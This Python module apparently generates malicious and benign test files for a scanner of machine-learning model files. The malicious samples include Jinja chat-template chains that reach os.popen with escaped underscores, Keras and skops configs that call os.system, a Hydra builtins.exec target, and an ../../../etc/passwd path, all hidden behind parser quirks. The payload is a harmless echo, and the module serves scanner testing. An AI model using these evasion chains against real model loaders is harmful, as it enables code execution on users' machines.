"""Front-door samples: JSON, YAML and Jinja text that Python's readers take but a stricter reader
refuses or reads differently (red-team round 2, classes A0-A4 and B7).

- JSON: `json.loads` accepts `NaN`/`Infinity`, numbers past a double (`1e400` is `inf`), nesting
  past 128 levels and, for bytes (Keras and skops read their members as bytes), a UTF-8 BOM and
  UTF-16/32 text. One unused key of that kind in front of a malicious configuration.
- Keys spelled with `\\u005f` (JSON) or `\\x5f` (YAML double quotes) escapes: the loader decodes
  them to the same key.
- Chat templates: `chat_template` as a dict of named templates, Jinja2 string escapes
  (`\\N{LOW LINE}`, `\\U0000005f`, octal) and Jinja2 syntax minijinja refuses (`{{ a, b }}`).

Payloads are the harmless `echo quarantine-sample`; nothing is ever loaded.
"""

from __future__ import annotations

import io
import json
import zipfile

CLEAN, SUSPICIOUS, MALICIOUS = "clean", "suspicious", "malicious"
CMD = "echo quarantine-sample"
RULES: dict = {}


def with_pad(text: str, pad: str) -> str:
    """Puts an unused `"pad": <pad>` key first in the root object of a json.dumps text."""
    assert text.startswith("{")
    return '{"pad": ' + pad + ", " + text[1:]


DEEP = "[" * 200 + "0" + "]" * 200


def zip_members(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def rewrite_member(archive: bytes, name: str, change) -> bytes:
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    return zip_members([(n, change(d) if n == name else d) for n, d in members])


def keras_os_system() -> dict:
    return {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional",
            "config": {"name": "model", "layers": [{
                "module": "os", "class_name": "function", "config": "system", "registered_name": "function",
                "name": "system", "inbound_nodes": [{"args": [CMD], "kwargs": {}}]}]}}


def keras_archive(config_text: bytes) -> bytes:
    return zip_members([
        ("metadata.json", json.dumps({"keras_version": "3.12.0", "date_saved": "2026-01-01@00:00:00"}).encode()),
        ("config.json", config_text),
    ])


def escape_key(text: str, key: str) -> str:
    """`"auto_map"` -> `"auto\\u005fmap"`: every underscore of the key as a JSON escape."""
    return text.replace(f'"{key}"', '"' + key.replace("_", "\\u005f") + '"')


def N(s: str) -> str:
    return s.replace("_", r"\N{LOW LINE}")


HEAD = "{% for message in messages %}{{ message['content'] }}{% endfor %}"
PRE = "<|im_start|>system\nYou are helpful.<|im_end|>\n"
NAMED_CHAIN = ("{{ raise_exception|attr('" + N("__globals__") + "')|attr('" + N("__getitem__") + "')('"
               + N("__builtins__") + "')|attr('" + N("__getitem__") + "')('" + N("__import__")
               + "')('os')|attr('popen')('" + CMD + "')|attr('read')() }}")
OCTAL_CHAIN = (r"{{ cycler|attr('\137\137init\137\137')|attr('\137\137globals\137\137')"
               r"|attr('\137\137getitem\137\137')('os')|attr('popen')('" + CMD + r"')|attr('read')() }}")
PLAIN_CHAIN = "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}"
CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
          "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")


def tokenizer_config(template, pad: str | None = None) -> bytes:
    text = json.dumps({"add_bos_token": True, "bos_token": "<s>", "eos_token": "</s>",
                       "model_max_length": 2048, "tokenizer_class": "LlamaTokenizer", "chat_template": template})
    return (with_pad(text, pad) if pad else text).encode()


def samples(register, g) -> None:
    import gen_longtail
    import gen_onnx

    keras_text = json.dumps(keras_os_system())
    for variant, data, what in (
        ("nan", with_pad(keras_text, "NaN").encode(), "an unused `NaN` key first"),
        ("bigfloat", with_pad(keras_text, "1e400").encode(), "an unused `1e400` (inf for Python) key first"),
        ("deep", with_pad(keras_text, DEEP).encode(), "an unused list nested 200 deep first"),
        ("bom", b"\xef\xbb\xbf" + keras_text.encode(), "a UTF-8 byte-order mark (json.loads(bytes) drops it)"),
        ("utf16", keras_text.encode("utf-16"), "UTF-16 with BOM (json.loads(bytes) detects it)"),
        ("utf32be", keras_text.encode("utf-32-be"), "UTF-32-BE without BOM (json.detect_encoding)"),
        ("key_escaped", escape_key(keras_text, "class_name").encode(), "every `class_name` key spelled `class\\u005fname`"),
    ):
        register(f"malicious/frontdoor_keras_{variant}.keras", MALICIOUS, ("KRS003", "os"),
                 desc=f"Keras config.json importing os.system through `module` (CVE-2025-1550) with {what}",
                 build=lambda d=data: keras_archive(d))
    register("malicious/frontdoor_keras_config_broken.json", SUSPICIOUS, ("KRS009", "class_name"),
             desc="text that opens like a Keras config (`class_name`) but is not JSON even by Python's rules: reported, "
                  "not passed over",
             build=lambda: keras_text[: len(keras_text) // 2].encode())

    def skops(change) -> bytes:
        archive = gen_longtail.skops_zip(g, gen_longtail.node("FunctionNode", "posix", "system"))
        return rewrite_member(archive, "schema.json", change)

    for variant, change, what in (
        ("nan", lambda d: with_pad(d.decode(), "-Infinity").encode(), "an unused `-Infinity` key first"),
        ("bom", lambda d: b"\xef\xbb\xbf" + d, "a UTF-8 byte-order mark"),
        ("utf16le", lambda d: d.decode().encode("utf-16-le"), "UTF-16-LE without BOM"),
        ("loader_after_4k", lambda d: ('{"' + "k" * 5000 + '": 0, ' + escape_key(d.decode(), "__loader__")[1:]).encode(),
         "a 5000-byte key before the root's `__loader__`, spelled `\\u005f\\u005floader\\u005f\\u005f`"),
    ):
        register(f"malicious/frontdoor_skops_{variant}.skops", MALICIOUS, ("SKP001", "system"),
                 desc=f"skops schema whose FunctionTransformer func is posix.system, schema.json with {what}",
                 build=lambda c=change: skops(c))

    index = gen_onnx.index_of("model-00001-of-00002.safetensors", "../../../etc/passwd").decode()
    register("malicious/frontdoor_sharded_bigfloat.safetensors.index.json", MALICIOUS, ("SFT004", "../../../etc/passwd"),
             desc="sharded checkpoint index naming ../../../etc/passwd, with `weight\\u005fmap` and an unused 1e400",
             build=lambda: with_pad(escape_key(index, "weight_map"), "1e400").encode())

    hf = json.dumps({"architectures": ["TinyModel"], "model_type": "tiny",
                     "auto_map": {"AutoModel": "someone/tiny-code--modeling_tiny.TinyModel"}})
    register("malicious/frontdoor_hf_auto_map_escaped.json", SUSPICIOUS, ("HFR002", "someone/tiny-code"),
             desc="config.json whose `auto\\u005fmap` loads code from another repository, behind an unused NaN",
             build=lambda: with_pad(escape_key(hf, "auto_map"), "NaN").encode())
    register("benign/frontdoor_config_nan.json", CLEAN,
             desc="an ordinary model config with NaN and Infinity values (json.dumps writes them by default)",
             build=lambda: json.dumps({"model_type": "tiny", "hidden_size": 8, "layer_norm_eps": float("nan"),
                                       "max_value": float("inf"), "auto_map": {}}).encode())

    register("malicious/frontdoor_tokenizer_config_dict_form.json", MALICIOUS, ("TPL001", "__globals__"),
             desc="tokenizer_config.json whose chat_template is a dict of named templates (transformers renders "
                  "`default`), behind an unused NaN",
             build=lambda: tokenizer_config({"default": HEAD + PLAIN_CHAIN, "tool_use": CHATML}, pad="NaN"))
    register("benign/frontdoor_tokenizer_config_dict_form.json", CLEAN,
             desc="tokenizer_config.json with an ordinary dict of named chat templates",
             build=lambda: tokenizer_config({"default": CHATML, "tool_use": CHATML}))
    register("malicious/frontdoor_tokenizer_config_broken.json", SUSPICIOUS, ("TPL002", "chat_template"),
             desc="text that opens like a tokenizer config naming `chat_template` but is not JSON Python reads",
             build=lambda: tokenizer_config(CHATML)[:-20])
    register("malicious/frontdoor_chat_template_named_escape.jinja", MALICIOUS, ("TPL001", "__globals__"),
             desc="chat template reaching os.popen from raise_exception with every underscore written "
                  "\\N{LOW LINE} (Jinja2 decodes string literals with unicode-escape; CVE-2024-34359 chain)",
             build=lambda: (HEAD + NAMED_CHAIN).encode())
    register("malicious/frontdoor_chat_template_U_escape.jinja", MALICIOUS, ("TPL001", "__globals__"),
             desc="the same chain with every underscore written \\U0000005f",
             build=lambda: (HEAD + NAMED_CHAIN.replace(r"\N{LOW LINE}", r"\U0000005f")).encode())
    register("malicious/frontdoor_chat_template_tuple_breaker.jinja", MALICIOUS, ("TPL001", "__globals__"),
             desc="chat template that starts as plain text, holds `{{ bos_token, '' }}` (a tuple print Jinja2 "
                  "accepts and minijinja refuses) and an octal-escaped cycler.__init__.__globals__ chain",
             build=lambda: (PRE + "{{ bos_token, '' }}" + HEAD + OCTAL_CHAIN).encode())
    register("malicious/frontdoor_chat_template_unknown_name.jinja", SUSPICIOUS, ("TPL003", "LATIN SMALL LETTER O WITH"),
             desc="chat template whose string uses \\N{LATIN SMALL LETTER O WITH DIAERESIS}, a name the scanner's "
                  "table does not hold: the string is reported as unread, not dropped",
             build=lambda: (HEAD + "{{ messages|attr('x\\N{LATIN SMALL LETTER O WITH DIAERESIS}') }}").encode())
    register("malicious/frontdoor_chat_template_unparsed_plainstart.jinja", SUSPICIOUS, ("TPL002", "does not parse"),
             ("TPL003", "__globals__"),
             desc="plain-text-first chat template that the scanner cannot parse (a set tuple minijinja refuses) "
                  "with octal-escaped dunder strings: reported and its strings still judged",
             build=lambda: (PRE + "{% set a = 1, 2 %}" + HEAD
                            + r"{{ cycler|attr('\137\137init\137\137')|attr('\137\137globals\137\137') }}"
                            + "{{ x | }}").encode())

    register("malicious/frontdoor_hydra_escaped_target.yaml", MALICIOUS, ("NEM001", "exec"),
             desc="Hydra config whose only `_target_` key is written \"\\x5ftarget\\x5f\" (yaml.safe_load decodes it)",
             build=lambda: ('preprocessor:\n  "\\x5ftarget\\x5f": builtins.exec\n  _args_:\n'
                            f"  - print('{CMD}')\n").encode())
